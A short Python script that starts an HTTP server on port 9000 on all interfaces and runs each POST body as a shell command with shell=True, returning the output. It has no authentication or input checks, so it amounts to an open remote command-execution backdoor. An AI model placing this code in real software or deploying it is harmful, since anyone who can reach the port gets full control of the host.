"""Runs the body of a request as a shell command, and returns its output."""

import subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer


class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        command = self.rfile.read(int(self.headers["content-length"])).decode()
        made = subprocess.run(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        self.send_response(200 if made.returncode == 0 else 500)
        self.send_header("content-length", str(len(made.stdout)))
        self.end_headers()
        self.wfile.write(made.stdout)


HTTPServer(("", 9000), Handler).serve_forever()
